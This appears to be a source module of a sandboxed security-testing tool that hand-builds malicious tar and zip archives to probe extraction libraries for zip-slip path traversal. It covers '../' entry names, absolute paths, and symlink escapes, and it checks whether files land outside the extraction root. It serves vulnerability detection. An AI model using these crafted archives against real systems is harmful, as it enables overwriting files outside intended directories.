/**
 * Part of the library witness for path traversal on write sinks (zip slip): it builds small malicious
 * archives inside the sandbox, hands them to the package's extract entry points, and checks whether a file
 * appeared OUTSIDE the extraction root. Spliced into {@link LIBRARY_RUNTIME} (same globals: CONFIG, NONCE,
 * fs, path, candidates, invoke, finish, describe, notes, started, settle, sleep); no template literals.
 *
 * Archives are written by hand: ustar headers (512-byte blocks) and stored (uncompressed) zip entries with
 * a CRC-32, so the witness needs no dependency inside the sandbox. Three techniques, one archive each:
 * `dotdot` (entry names `../../x`, `d/../../../x` and an absolute name), `symlink` (a link `l -> ../..`, then
 * `l/x`) and `linkfile` (a link `f -> ../../x`, then a file entry `f`).
 */
export const ARCHIVE_RUNTIME = String.raw`
const SLIP_BASE = '/tmp/yagura-slip-' + NONCE;
// Deep enough that ../../ stays inside SLIP_BASE: an escape lands in a nonce-named folder of this run.
const SLIP_ROOT = SLIP_BASE + '/a/b/out';
const SLIP_TOKEN = 'yagura-slip-' + crypto.randomBytes(8).toString('hex');

function octal(n, width) { const s = n.toString(8); return '0'.repeat(Math.max(0, width - 1 - s.length)) + s + '\0'; }
function tarHeader(name, type, size, linkname) {
  const h = Buffer.alloc(512);
  h.write(name.slice(0, 100), 0, 'utf8');
  h.write(octal(type === '2' ? 0o777 : type === '5' ? 0o755 : 0o644, 8), 100);
  h.write(octal(0, 8), 108);
  h.write(octal(0, 8), 116);
  h.write(octal(size, 12), 124);
  h.write(octal(Math.floor(Date.now() / 1000), 12), 136);
  h.write('        ', 148);
  h.write(type, 156);
  if (linkname) h.write(linkname.slice(0, 100), 157, 'utf8');
  h.write('ustar\0', 257);
  h.write('00', 263);
  let sum = 0;
  for (let i = 0; i < 512; i++) sum += h[i];
  h.write(octal(sum, 7) + ' ', 148);
  return h;
}
function tarOf(entries) {
  const parts = [];
  for (const e of entries) {
    const data = Buffer.from(e.data || '');
    parts.push(tarHeader(e.name, e.type, e.type === '0' ? data.length : 0, e.link));
    if (e.type === '0') { parts.push(data); parts.push(Buffer.alloc((512 - (data.length % 512)) % 512)); }
  }
  parts.push(Buffer.alloc(1024));
  return Buffer.concat(parts);
}
const CRC_TABLE = (function () {
  const t = new Int32Array(256);
  for (let n = 0; n < 256; n++) { let c = n; for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1; t[n] = c; }
  return t;
})();
function crc32(buf) { let c = -1; for (let i = 0; i < buf.length; i++) c = CRC_TABLE[(c ^ buf[i]) & 0xff] ^ (c >>> 8); return (c ^ -1) >>> 0; }
function zipOf(entries) {
  const locals = [];
  const centrals = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.type === '5' ? e.name.replace(/\/?$/, '/') : e.name);
    const data = Buffer.from(e.type === '2' ? e.link : e.type === '5' ? '' : e.data || '');
    const crc = crc32(data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0); local.writeUInt16LE(20, 4); local.writeUInt16LE(0, 6); local.writeUInt16LE(0, 8);
    local.writeUInt16LE(0, 10); local.writeUInt16LE(0x21, 12); local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(data.length, 18); local.writeUInt32LE(data.length, 22); local.writeUInt16LE(name.length, 26); local.writeUInt16LE(0, 28);
    const central = Buffer.alloc(46);
    const mode = e.type === '2' ? 0o120777 : e.type === '5' ? 0o40755 : 0o100644;
    central.writeUInt32LE(0x02014b50, 0); central.writeUInt16LE((3 << 8) | 20, 4); central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0, 8); central.writeUInt16LE(0, 10); central.writeUInt16LE(0, 12); central.writeUInt16LE(0x21, 14);
    central.writeUInt32LE(crc, 16); central.writeUInt32LE(data.length, 20); central.writeUInt32LE(data.length, 24);
    central.writeUInt16LE(name.length, 28); central.writeUInt16LE(0, 30); central.writeUInt16LE(0, 32); central.writeUInt16LE(0, 34);
    central.writeUInt16LE(0, 36); central.writeUInt32LE((mode << 16) >>> 0, 38); central.writeUInt32LE(offset, 42);
    locals.push(local, name, data);
    centrals.push(central, name);
    offset += local.length + name.length + data.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0); end.writeUInt16LE(entries.length, 8); end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12); end.writeUInt32LE(offset, 16);
  return Buffer.concat(locals.concat([cd, end]));
}

// Where each technique's file lands if the extractor lets it escape the root.
function slipTargets(technique) {
  return technique === 'dotdot'
    ? [path.resolve(SLIP_ROOT, '../../yagura-escape-dotdot'), path.resolve(SLIP_ROOT, '../../yagura-escape-nested'), SLIP_BASE + '/yagura-escape-absolute']
    : technique === 'symlink' ? [path.resolve(SLIP_ROOT, '../../yagura-escape-symlink')]
    : [path.resolve(SLIP_ROOT, '../../yagura-escape-through-link')];
}
function slipEntries(technique) {
  if (technique === 'dotdot') {
    return [
      { name: 'inside.txt', type: '0', data: 'inside' },
      { name: '../../yagura-escape-dotdot', type: '0', data: SLIP_TOKEN },
      // Sanitisers that strip only a leading ../ miss one further in.
      { name: 'yagura-dir/../../../yagura-escape-nested', type: '0', data: SLIP_TOKEN },
      { name: SLIP_BASE + '/yagura-escape-absolute', type: '0', data: SLIP_TOKEN },
    ];
  }
  if (technique === 'symlink') {
    return [
      { name: 'yagura-link', type: '2', link: '../..' },
      { name: 'yagura-link/yagura-escape-symlink', type: '0', data: SLIP_TOKEN },
    ];
  }
  // A link to a file outside, then a file entry of the same name: writing it follows the link.
  return [
    { name: 'yagura-file-link', type: '2', link: '../../yagura-escape-through-link' },
    { name: 'yagura-file-link', type: '0', data: SLIP_TOKEN },
  ];
}
function writeArchive(format, technique) {
  const entries = slipEntries(technique);
  const file = SLIP_BASE + '/archive-' + technique + (format === 'zip' ? '.zip' : '.tar');
  fs.writeFileSync(file, format === 'zip' ? zipOf(entries) : tarOf(entries));
  return file;
}
function resetSlip() {
  fs.rmSync(SLIP_BASE, { recursive: true, force: true });
  fs.mkdirSync(SLIP_ROOT, { recursive: true });
}
function escaped(technique) {
  for (const target of slipTargets(technique)) {
    try { if (fs.readFileSync(target, 'utf8').indexOf(SLIP_TOKEN) !== -1) return target; } catch (e) { /* not there */ }
  }
  return undefined;
}
function fillSlip(shape, archive) {
  if (typeof shape === 'string') return shape === '{{ARCHIVE}}' ? archive : shape === '{{ROOT}}' ? SLIP_ROOT : shape === '{{BUFFER}}' ? fs.readFileSync(archive) : shape;
  if (Array.isArray(shape)) return shape.map(function (s) { return fillSlip(s, archive); });
  if (shape && typeof shape === 'object') { const o = {}; for (const k of Object.keys(shape)) o[k] = fillSlip(shape[k], archive); return o; }
  return shape;
}
function isWritable(value) { return value && typeof value.write === 'function' && typeof value.end === 'function' && typeof value.on === 'function'; }
// Feed the archive to whatever the call returned (a writable stream is piped into), then wait for it.
async function feed(result, archive) {
  if (isWritable(result)) {
    await new Promise(function (resolve) {
      let settled = false;
      const end = function () { if (!settled) { settled = true; resolve(); } };
      for (const ev of ['finish', 'close', 'error']) result.on(ev, end);
      if (typeof result.once === 'function') result.once('error', function (e) { notes.push('stream: ' + String(e && e.message).slice(0, 120)); });
      fs.createReadStream(archive).pipe(result);
      // A tiny archive extracts in milliseconds; a stream that never finishes is not waited on long.
      setTimeout(end, 500);
    });
    await sleep(50);
    return;
  }
  await settle(result, 500);
  await sleep(50);
}

/** Call shapes of extract entry points: the archive (path or bytes) and the root in the usual places. */
const SLIP_SHAPES = [
  { args: ['{{ROOT}}'] },
  { args: [{ path: '{{ROOT}}' }] },
  { args: ['{{ARCHIVE}}', '{{ROOT}}'] },
  { args: ['{{BUFFER}}', '{{ROOT}}'] },
  { args: [{ file: '{{ARCHIVE}}', cwd: '{{ROOT}}' }] },
  { args: ['{{ARCHIVE}}', { dir: '{{ROOT}}' }] },
  { args: [{ cwd: '{{ROOT}}' }] },
  { ctor: ['{{ARCHIVE}}'], args: ['{{ROOT}}', true] },
  { ctor: ['{{ARCHIVE}}'], args: ['{{ROOT}}'] },
];
async function trySlip(c, shape, format, technique) {
  resetSlip();
  const archive = writeArchive(format, technique);
  try {
    const args = fillSlip(shape.args, archive);
    let result;
    if (c.construct) {
      const r = resolveCandidate(c);
      const instance = new r.fn(...fillSlip(shape.ctor || shape.args, archive));
      result = instance[c.method](...args);
    } else {
      if (shape.ctor) return undefined;
      result = invoke(c, args);
    }
    await feed(result, archive);
  } catch (e) {
    if (notes.length < 40) notes.push(c.name + ' (' + format + '): ' + String(e && e.message).slice(0, 120));
  }
  return escaped(technique);
}
/** Search (or replay) an extraction that writes outside its root; undefined when none did within the budget. */
async function runArchive(deadline) {
  // Entry points named for extraction go first; the others keep the flow's ranking.
  const extracting = function (c) { return /extract|unzip|untar|unpack|decompress|inflate|expand/i.test(c.name) ? 0 : 1; };
  const list = CONFIG.mode === 'replay' ? [CONFIG.call]
    : candidates().filter(function (c) { return !c.bare; }).map(function (c, i) { return { c: c, i: i }; })
      .sort(function (a, b) { return extracting(a.c) - extracting(b.c) || a.i - b.i; }).map(function (x) { return x.c; });
  let tried = 0;
  for (const c of list) {
    const shapes = CONFIG.mode === 'replay' ? [c.slip.shape] : SLIP_SHAPES.filter(function (s) { return c.construct ? s.ctor : !s.ctor; });
    for (const shape of shapes) {
      for (const format of CONFIG.mode === 'replay' ? [c.slip.format] : ['tar', 'zip']) {
        for (const technique of CONFIG.mode === 'replay' ? [c.slip.technique] : ['dotdot', 'symlink', 'linkfile']) {
          if (Date.now() - started > deadline) return { tried: tried };
          tried += 1;
          const target = await trySlip(c, shape, format, technique);
          if (target !== undefined) {
            const call = describe(c, shape.args, '{{ARCHIVE}}');
            call.slip = { shape: shape, format: format, technique: technique };
            return { call: call, tried: tried, observation: 'extracting a ' + format + ' archive (' + technique + ') wrote ' + target + ', outside the root ' + SLIP_ROOT };
          }
        }
      }
    }
  }
  return { tried: tried };
}
`;
